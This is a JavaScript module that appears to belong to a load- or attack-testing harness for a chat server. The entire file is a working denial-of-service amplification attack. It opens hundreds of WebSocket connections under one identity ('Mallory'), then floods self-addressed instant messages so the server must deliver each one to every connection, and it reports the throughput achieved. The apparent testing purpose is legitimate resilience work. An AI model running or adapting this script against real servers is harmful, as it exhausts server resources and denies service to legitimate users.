// One user with many connections writes to himself: each message is a delivery to every one of them.
import { RawSocket, frame } from '../websocket.js';

export const what = 'im to a user with 500 connections of the attacker\'s own, as fast as the server reads';
export const connections = scale => 500 * scale;

export async function attack({ target, seconds, scale }) {
  const open = [];
  let received = 0;
  for (let n = 0; n < connections(scale); n++) {
    const raw = await RawSocket.identified(target, 'Mallory').catch(() => null);
    if (!raw) continue;
    raw.tcp.on('data', data => { received += data.length; });
    open.push(raw);
  }

  const im = frame(`42${JSON.stringify(['im', { from: 'Mallory', to: 'Mallory', text: 'x'.repeat(100) }])}`);
  const sent = await Promise.all(open.slice(0, 8).map(raw => raw.flood(seconds, () => im)));
  for (const raw of open) raw.tcp.destroy();
  return { connections: open.length, sent: sent.reduce((sum, count) => sum + count, 0), megabytesReceived: Math.round(received / 1e6) };
}
